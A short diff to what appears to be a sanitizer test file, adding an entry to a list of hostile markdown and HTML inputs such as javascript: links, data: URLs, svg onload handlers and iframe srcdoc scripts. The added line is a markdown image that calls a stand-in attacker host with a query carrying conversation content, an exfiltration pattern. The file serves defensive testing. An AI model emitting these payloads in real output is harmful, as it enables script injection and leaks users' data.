@@ -16,6 +16,7 @@ HOSTILE = [
     "[click](JaVaScRiPt&#58;window.hacked=1)",
     "[click](data:text/html,<script>window.hacked=1</script>)",
     "![x](javascript:window.hacked=1)",
+    "![x](https://evil.example/?q=what-was-said)",
     "<svg onload='window.hacked = 1'><a xlink:href='javascript:window.hacked=1'>x</a></svg>",
     "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
     "<form action='/logout/' method='post'><button>Log out</button></form>",
